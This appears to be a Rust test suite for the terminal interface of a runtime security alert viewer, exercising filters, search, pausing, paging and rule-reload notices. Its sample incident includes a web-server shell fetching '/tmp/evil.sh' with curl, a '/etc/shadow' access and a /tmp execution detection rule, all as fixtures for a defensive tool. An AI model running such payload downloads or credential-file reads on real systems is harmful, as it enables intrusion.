//! What keys, alerts, answers and pulses do.

use super::*;
use crate::tui::detail::Extent;

#[test]
fn enter_shows_the_line_of_ancestors_and_the_full_command() {
    let mut stage = Stage::new(120, 40, told());
    stage.keys("g j Enter");
    for text in [
        "1 systemd splash",
        "which is how downloaded tools begin.",
        "when spawned_process and proc.exepath startswith /tmp/",
        "1190 php-fpm8.2",
        "2117 sh -c curl -o",
        "4012 curl -o /tmp/evil.sh",
        "rules/eyas.yaml:41",
    ] {
        let all = stage.state.detail.as_ref().unwrap().lines(200, &stage.ctx.zone, Extent::Pane);
        let all: String =
            all.iter().flat_map(|l| l.parts.iter().map(|(_, t)| t.as_str()).chain(["\n"])).collect();
        assert!(all.contains(text), "{text}:\n{all}");
    }
    stage.shows("4012 curl -o /tmp/evil.sh");
    stage.keys("Esc");
    assert!(stage.state.detail.is_none());
}

#[test]
fn the_list_shows_full_command_lines_at_120x40() {
    let stage = Stage::new(120, 40, told());
    stage.shows("curl -o /tmp/evil.sh http://127.0.0.1:8000/evil.sh   ← sh ← php-fpm8.2");
    stage.shows("c /etc/shadow");
}

#[test]
fn include_and_exclude_take_the_value_under_the_cursor() {
    let mut stage = Stage::new(120, 40, told());
    stage.keys("g j i");
    assert_eq!(&*stage.state.filter.as_ref().unwrap().text, "proc.name = curl");
    assert_eq!(stage.state.rows.len(), 2);
    stage.keys("l x");
    assert_eq!(
        &*stage.state.filter.as_ref().unwrap().text,
        "proc.name = curl and container.id != 3f2a9c81d07e"
    );
    stage.shows("No alert meets the filter.");
    stage.keys("Esc");
    assert!(stage.state.filter.is_none());
    assert_eq!(stage.state.rows.len(), 11);
    stage.keys("h h h h h i");
    stage.shows("move the cursor");
    stage.keys("l i l i");
    assert_eq!(
        &*stage.state.filter.as_ref().unwrap().text,
        "alert.priority = Warning and alert.rule = \"Shell history truncated\""
    );
    assert_eq!(stage.state.rows.len(), 1);
    stage.keys("Esc");
    // In the details, a field's line.
    stage.keys("g Enter ] ] ] ] j j i");
    assert_eq!(&*stage.state.filter.as_ref().unwrap().text, "evt.type = execve");
}

#[test]
fn on_a_process_they_take_it_with_all_that_it_started_at_any_depth() {
    let mut world = told();
    // The same alert again, one generation further down: a child of the first one's own process.
    let mut child = Alert::clone(&world.alerts[1]);
    let own = child.process.clone();
    child.id = AlertId::new(child.time, 77);
    child.ancestors = std::iter::once(own.clone()).chain(child.ancestors.iter().cloned()).collect();
    child.process =
        Arc::new(Process { key: eyas_event::ProcessKey { pid: 9_000, start: 1 }, ..(*own).clone() });
    child.fields.retain(|(name, _)| !name.starts_with("proc.apid") && name != "proc.pid");
    child.fields.push(("proc.pid".into(), eyas_event::OutputValue::Int(9_000)));
    for (n, p) in child.ancestors.iter().enumerate() {
        let pid = eyas_event::OutputValue::Int(i64::from(p.key.pid));
        child.fields.push((format!("proc.apid[{}]", n + 1), pid));
    }
    world.alerts.insert(2, Arc::new(child));
    let line = |stage: &Stage, text: &str| {
        let view = stage.state.detail.as_ref().unwrap();
        let lines = view.lines(stage.state.layout().detail_width(), &stage.ctx.zone, stage.state.extent());
        lines.iter().position(|l| l.parts.iter().any(|(_, t)| t.contains(text)) && l.pick.is_some()).unwrap()
    };
    for (process, keys, left) in
        [("4012 ", "i", 2), ("4012 ", "x", 10), ("1190 ", "i", 12), ("1190 ", "x", 0)]
    {
        let mut stage = Stage::new(120, 40, world.clone());
        stage.keys("g j Enter");
        stage.state.detail.as_mut().unwrap().line = line(&stage, process);
        stage.keys(keys);
        let filter = stage.state.filter.as_ref().unwrap().text.clone();
        let pid = process.trim();
        assert!(filter.ends_with(&format!("(proc.pid = {pid} or proc.apid = {pid})")), "{filter}");
        assert_eq!(stage.state.rows.len(), left, "{filter}");
    }
}

#[test]
fn a_value_with_blanks_and_quotes_finds_its_alert_again() {
    let own = Process { comm: (*b"a \"b\", (c)\\").into(), container: "host".into(), ..Process::default() };
    let world = World {
        alerts: vec![Arc::new(made(1, Priority::Error, "R", "root", own, "m".into())), Arc::new(alert(2))],
        ..World::default()
    };
    let mut stage = Stage::new(80, 24, world);
    stage.keys("g i");
    assert_eq!(&*stage.state.filter.as_ref().unwrap().text, r#"proc.name = "a \"b\", (c)\ ""#);
    assert_eq!(stage.state.rows.len(), 1);
}

#[test]
fn new_alerts_keep_a_follower_at_the_newest_and_leave_others_in_peace() {
    let mut stage = Stage::new(80, 24, told());
    stage.send(Msg::Alerts(vec![Arc::new(alert(100))]));
    assert_eq!(stage.selected(), alert(100).id);
    stage.keys("k k");
    let chosen = stage.selected();
    stage.send(Msg::Alerts(vec![Arc::new(alert(101)), Arc::new(alert(102))]));
    assert_eq!(stage.selected(), chosen);
    stage.shows("2 new");
    stage.keys("G");
    assert_eq!(stage.selected(), alert(102).id);
}

#[test]
fn pause_holds_the_screen_and_counts() {
    let mut stage = Stage::new(80, 24, told());
    stage.keys("p");
    let before: String = stage.screen().lines().skip(1).collect();
    stage.send(Msg::Alerts((100..112).map(|n| Arc::new(alert(n))).collect()));
    let screen = stage.screen();
    assert!(screen.contains("12 new held"), "{screen}");
    assert!(screen.contains("PAUSED"));
    assert_eq!(before, screen.lines().skip(1).collect::<String>(), "nothing but the count moves");
    stage.keys("p");
    assert_eq!(stage.state.rows.len(), 23);
    assert_eq!(stage.selected(), alert(111).id);
}

#[test]
fn a_filter_is_checked_while_it_is_typed_and_its_mistakes_are_marked() {
    let mut stage = Stage::new(80, 24, told());
    stage.keys("f 'proc.nam = curl'");
    stage.shows("^^^^^^^^");
    stage.shows("there is no field `proc.nam`");
    stage.keys("Enter");
    assert!(stage.state.filter.is_none(), "a wrong filter is not applied");
    stage.keys("Home");
    for _ in 0..8 {
        stage.keys("Right");
    }
    stage.keys("Tab");
    stage.shows("2 alerts meet it");
    stage.keys("Enter");
    assert_eq!(stage.state.rows.len(), 2);
    stage.shows("2 matches stored");
}

#[test]
fn tab_goes_through_the_names_that_begin_so() {
    let mut stage = Stage::new(120, 40, told());
    let text = |stage: &Stage| match stage.state.layers.last() {
        Some(Layer::Filter(bar)) => bar.prompt.input.text().to_owned(),
        _ => panic!("the filter bar is open"),
    };
    stage.keys("f 'proc.p' Tab");
    let first = text(&stage);
    stage.keys("Tab");
    let second = text(&stage);
    assert!(first.starts_with("proc.p") && second.starts_with("proc.p") && first != second);
    stage.shows(&format!("Tab {second}"));
    stage.keys("BackTab");
    assert_eq!(text(&stage), first);
    let mut seen = vec![first.clone()];
    loop {
        stage.keys("Tab");
        let name = text(&stage);
        if name == first {
            break;
        }
        assert!(!seen.contains(&name), "{name}");
        seen.push(name);
    }
    assert!(seen.len() > 3);
    stage.keys("' = 1'");
    assert_eq!(text(&stage), format!("{first} = 1"));
    stage.keys("' and alert.' Tab");
    assert!(text(&stage).starts_with(&format!("{first} = 1 and alert.")));
}

#[test]
fn a_bare_word_in_the_filter_bar_is_pointed_to_the_search() {
    let mut stage = Stage::new(120, 40, told());
    stage.keys("f 'curl'");
    stage.shows("to search for a text, press Esc and /");
    stage.keys("' = x'");
    assert!(!stage.screen().contains("to search for a text"));
    for (word, mend) in [("rule", "alert.rule"), ("priority", "alert.priority")] {
        let mut stage = Stage::new(120, 40, told());
        stage.keys(&format!("f '{word} = x'"));
        stage.shows(mend);
    }
}

#[test]
fn enter_before_the_answer_applies_when_it_comes() {
    let mut stage = Stage::new(80, 24, told());
    stage.silent = true;
    stage.keys("f 'proc.name = sh' Enter");
    assert!(stage.state.filter.is_none());
    assert_eq!(stage.asked.len(), 1, "one text at a time is compiled");
    let first = stage.asked.pop().unwrap();
    stage.silent = false;
    // Stale answers change nothing, whatever they say.
    stage.send(Msg::Reply(Ticket(first.ticket.0 + 90), Reply::Filter { text: "x".into(), result: Ok(7) }));
    assert!(stage.state.filter.is_none());
    stage.send(Msg::Reply(first.ticket, stage.world.answer(&first.question)));
    assert_eq!(&*stage.state.filter.as_ref().unwrap().text, "proc.name = sh");
}

#[test]
fn under_a_filter_new_alerts_come_from_the_store() {
    let mut stage = Stage::new(80, 24, told());
    stage.keys("f 'proc.name = bash' Enter");
    assert_eq!(stage.state.rows.len(), 1);
    let new = Arc::new(alert(100));
    let other = Arc::new(world::shell(101, Priority::Error, "R", "dash"));
    stage.world.alerts.extend([new.clone(), other.clone()]);
    stage.send(Msg::Alerts(vec![new.clone(), other]));
    assert_eq!(stage.state.rows.len(), 1);
    stage.tick(100);
    assert_eq!(stage.state.rows.len(), 2);
    assert_eq!(stage.selected(), new.id);
}

#[test]
fn what_the_lane_left_out_is_read_from_the_store() {
    let mut stage = Stage::new(80, 24, told());
    stage.world.alerts.push(Arc::new(alert(100)));
    stage.send(Msg::Pulse(Arc::new(pulse(12))));
    assert_eq!(stage.state.rows.len(), 11, "it may still be on its way");
    stage.send(Msg::Pulse(Arc::new(pulse(12))));
    assert_eq!(stage.state.rows.len(), 12);
}

#[test]
fn a_burst_larger_than_a_page_is_read_whole_and_once() {
    let mut stage = Stage::new(80, 24, World::default());
    let burst: Vec<Arc<Alert>> = (0..1_700)
        .map(|n| {
            let mut a = alert(1);
            a.id = AlertId::new(a.time, n);
            Arc::new(a)
        })
        .collect();
    stage.world.alerts = burst;
    stage.keys("f 'proc.name = bash' Enter");
    stage.send(Msg::Alerts(stage.world.alerts.clone()));
    for _ in 0..3 {
        stage.tick(100);
    }
    assert_eq!(stage.state.rows.len(), 1_700);
    assert!(stage.state.pending.page.is_none(), "and then it is quiet");
}

#[test]
fn older_alerts_come_page_by_page() {
    let world = World { alerts: (0..1_200).map(|n| Arc::new(alert(n))).collect(), ..World::default() };
    let mut stage = Stage::new(80, 24, world);
    assert_eq!(stage.state.rows.len(), 500);
    stage.keys("g");
    assert_eq!(stage.state.rows.len(), 1_000);
    stage.keys("g");
    assert_eq!((stage.state.rows.len(), stage.state.rows.older), (1_200, false));
    stage.keys("g");
    assert_eq!(stage.selected(), alert(0).id);
}

#[test]
fn search_goes_from_match_to_match() {
    let mut stage = Stage::new(80, 24, told());
    stage.keys("g / 'curl' Enter");
    let first = stage.selected();
    assert_eq!(first, incident()[1].id);
    stage.keys("n");
    assert_eq!(stage.selected(), incident()[8].id);
    stage.keys("n");
    assert_eq!(stage.selected(), first);
    stage.shows("Went on from the top.");
    stage.keys("N");
    assert_eq!(stage.selected(), incident()[8].id);
    stage.keys("Esc");
    assert!(stage.state.search.is_none());
}

#[test]
fn the_search_looks_in_the_details_while_they_have_the_keys() {
    let mut stage = Stage::new(120, 40, told());
    let chosen = stage.selected();
    stage.keys("Enter / 'PROC.'");
    stage.shows("in 0 of");
    stage.keys("ctrl-u 'proc.'");
    let Some(Layer::Search(prompt)) = stage.state.layers.last() else { panic!("the prompt is open") };
    let (of, _) = prompt.found.unwrap();
    assert!(of > 4, "{of}");
    stage.keys("Enter");
    stage.shows(&format!("match 1/{of}"));
    stage.keys("n n");
    stage.shows(&format!("match 3/{of}"));
    stage.keys("N N N");
    stage.shows(&format!("match {of}/{of}"));
    stage.shows("Went on from the bottom.");
    assert_eq!(stage.selected(), chosen, "the list does not move");
    stage.keys("j");
    assert!(!stage.screen().contains("match "), "the cursor has left the match");
    stage.keys("Tab g / 'curl' Enter");
    stage.shows("match 1/2");
    stage.keys("j");
    stage.shows("2 matches");
    let world = World { alerts: (0..600).map(|n| Arc::new(alert(n))).collect(), ..World::default() };
    let mut stage = Stage::new(80, 24, world);
    stage.keys("/ 'nowhere' Enter");
    stage.shows("No match among the 500 loaded; f filters the whole store.");
}

#[test]
fn the_cursor_of_the_details_stays_on_its_item() {
    let mut stage = Stage::new(80, 24, told());
    stage.silent = true;
    stage.keys("g j Enter");
    let ask = stage.asked.pop().unwrap();
    let item = |stage: &Stage| {
        let view = stage.state.detail.as_ref().unwrap();
        let lines = view.lines(stage.state.layout().detail_width(), &stage.ctx.zone, stage.state.extent());
        lines[view.line].pick.clone()
    };
    stage.shows("4012 curl -o");
    stage.keys("] j j j j");
    let before = item(&stage);
    assert!(before.is_some());
    stage.keys("Z");
    assert_eq!(item(&stage), before, "zoomed");
    stage.send(Msg::Reply(ask.ticket, stage.world.answer(&ask.question)));
    assert_eq!(item(&stage), before, "with the rule");
    stage.send(Msg::Resize(Size::new(120, 40)));
    stage.keys("Z");
    assert_eq!(item(&stage), before, "beside the list");
    let top = stage.state.detail.as_ref().unwrap();
    assert!(top.top <= top.line);
}

#[test]
fn urgent_alerts_can_be_gone_through() {
    let mut stage = Stage::new(80, 24, told());
    stage.keys("g e e");
    assert_eq!(stage.selected(), incident()[4].id);
    stage.keys("E");
    assert_eq!(stage.selected(), incident()[3].id);
}

#[test]
fn the_palette_runs_what_has_no_key() {
    let mut stage = Stage::new(80, 24, told());
    stage.keys(": 'theme light' Enter");
    assert_eq!(stage.ctx.themes[stage.state.theme].name(), "light");
    stage.keys(": 'debug panic' Enter");
    assert_eq!(stage.out, [Effect::Panic]);
}

#[test]
fn leaving() {
    let mut stage = Stage::new(80, 24, told());
    stage.keys("Enter q");
    assert!(stage.out.is_empty() && stage.state.detail.is_none(), "q climbs out first");
    stage.keys("q");
    stage.shows("Watching stops. q again to leave, Esc to stay.");
    stage.keys("Esc");
    assert!(stage.out.is_empty() && stage.state.notice.is_none());
    stage.keys("q j q");
    assert!(stage.out.is_empty(), "another key means to stay");
    stage.tick(10_000);
    stage.keys("q");
    assert!(stage.out.is_empty(), "so does no key");
    stage.keys("q");
    assert_eq!(stage.out, [Effect::Quit]);
    stage.keys("f ctrl-c");
    stage.send(Msg::Signal);
    assert_eq!(stage.out, [Effect::Quit, Effect::Quit, Effect::Stop]);
}

#[test]
fn a_replay_is_spanned_whole_and_has_no_rate_when_it_has_ended() {
    let sensor = Sensor::Replay { name: "demo".into(), position: WallTime(world::BEGIN) };
    let ended = Pulse { sensor, ended: true, ..pulse(11) };
    let mut stage = Stage::with_pulse(120, 40, told(), ended);
    stage.tick(1_000);
    stage.shows("— ev/s");
    // The incident's first alert is 88 seconds before its present.
    stage.shows("RECORDING, 88 S");
    stage.keys("-");
    stage.shows("LAST 5 MIN");
}

#[test]
fn a_small_screen_shows_how_many_there_are_and_that_some_are_hidden() {
    let mut stage = Stage::new(40, 12, told());
    stage.shows("11 alerts");
    stage.keys("f 'proc.name = curl' Enter");
    let first = stage.screen().lines().next().unwrap().to_owned();
    assert!(first.contains("11 alerts  filter"), "{first}");
    let mut stage = Stage::with_pulse(120, 40, told(), pulse(0));
    stage.tick(1_000);
    stage.shows("0 since start");
}

#[test]
fn a_replay_is_left_at_once() {
    let sensor = Sensor::Replay { name: "demo".into(), position: WallTime(world::BEGIN) };
    let mut stage = Stage::with_pulse(80, 24, told(), Pulse { sensor, ..pulse(11) });
    stage.keys("q");
    assert_eq!(stage.out, [Effect::Quit]);
}

#[test]
fn include_and_exclude_leave_the_details_open() {
    let mut stage = Stage::new(120, 40, told());
    stage.keys("g j Enter");
    stage.state.detail.as_mut().unwrap().line = 0;
    let chosen = stage.selected();
    stage.keys("i");
    assert_eq!(
        &*stage.state.filter.as_ref().unwrap().text,
        "alert.rule = \"Download tool writes below /tmp\""
    );
    assert_eq!(stage.state.detail.as_ref().unwrap().id(), chosen);
    assert_eq!((stage.selected(), stage.state.rows.len()), (chosen, 1));
    stage.keys("q");
    stage.keys("Esc");
    assert_eq!(stage.selected(), chosen, "the list without the filter stays there, too");
    stage.keys("Enter x");
    assert_eq!(stage.state.rows.len(), 10);
    assert_eq!(stage.state.detail.as_ref().unwrap().id(), incident()[2].id, "the next one is shown");
    stage.keys("q q");
    assert!(stage.out.is_empty());
}

#[test]
fn a_store_that_fails_says_so_and_stops_nothing() {
    let mut stage = Stage::new(80, 24, World { broken: true, ..told() });
    stage.shows("the disk is full");
    stage.send(Msg::Alerts(incident()));
    stage.keys("Enter");
    let all = stage.state.detail.as_ref().unwrap().lines(78, &stage.ctx.zone, Extent::Pane);
    assert!(all.iter().any(|l| l.parts.iter().any(|(_, t)| t.contains("could not say: the disk is full"))));
    stage.keys("Esc f 'proc.name = x'");
    assert!(
        matches!(stage.state.layers.last(), Some(Layer::Filter(f)) if matches!(f.verdict, Verdict::Failed(_)))
    );
}

#[test]
fn a_reload_is_told_once() {
    let mut stage = Stage::new(80, 24, told());
    let reload = Reload {
        at: WallTime(1),
        text: String::new(),
        errors: 0,
        warnings: 0,
        lints: 0,
        rules: 15,
        unread: None,
        applied: true,
    };
    let new = Arc::new(Pulse { reload: Some(Arc::new(reload)), rules: 15, ..pulse(11) });
    stage.send(Msg::Pulse(new.clone()));
    stage.shows("Rules loaded: 15 in force.");
    stage.tick(10_000);
    stage.send(Msg::Pulse(new));
    assert!(stage.state.notice.is_none());
}

#[test]
fn a_reload_that_leaves_no_rule_on_says_so() {
    let mut stage = Stage::new(120, 40, told());
    let reload = Reload {
        at: WallTime(1),
        text: String::new(),
        errors: 0,
        warnings: 0,
        lints: 0,
        rules: 0,
        unread: None,
        applied: false,
    };
    stage.send(Msg::Pulse(Arc::new(Pulse { reload: Some(Arc::new(reload.clone())), ..pulse(11) })));
    stage.shows("Rules: none of the new ones is on; the earlier ones stay in force.");
    stage.shows("the new ones are not in force, R shows why");
    stage.keys("R");
    stage.shows("None of the new rules is on; the earlier ones stay in force.");

    let unread = Some("are for events of `k8s_audit`, which nothing here gives".to_owned());
    let told = |reload| Msg::Pulse(Arc::new(Pulse { reload: Some(Arc::new(reload)), ..pulse(11) }));
    stage.send(told(Reload { unread: unread.clone(), ..reload.clone() }));
    stage.shows("nothing here feeds the new ones; the earlier ones stay in force.");
    stage.shows("The new rules that are on are for events of `k8s_audit`, which nothing here gives; the");
    stage.send(told(Reload { unread, applied: true, ..reload }));
    stage.shows("Others are for events of `k8s_audit`, which nothing here gives.");
}
